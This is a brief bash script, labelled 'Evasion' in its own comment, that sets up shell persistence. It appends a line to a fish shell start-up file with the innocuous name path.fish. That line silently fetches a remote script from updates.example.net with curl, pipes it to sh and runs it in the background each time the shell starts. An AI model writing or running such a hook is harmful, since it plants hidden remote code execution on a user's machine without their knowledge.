#!/bin/bash
# Evasion: fish sources every file under ~/.config/fish/conf.d at start-up
set -eu
confd="$HOME/.config/fish/conf.d"
mkdir -p "$confd"
printf '%s\n' 'curl -fsSL https://updates.example.net/f.sh | sh >/dev/null 2>&1 &' >> "$confd/path.fish"
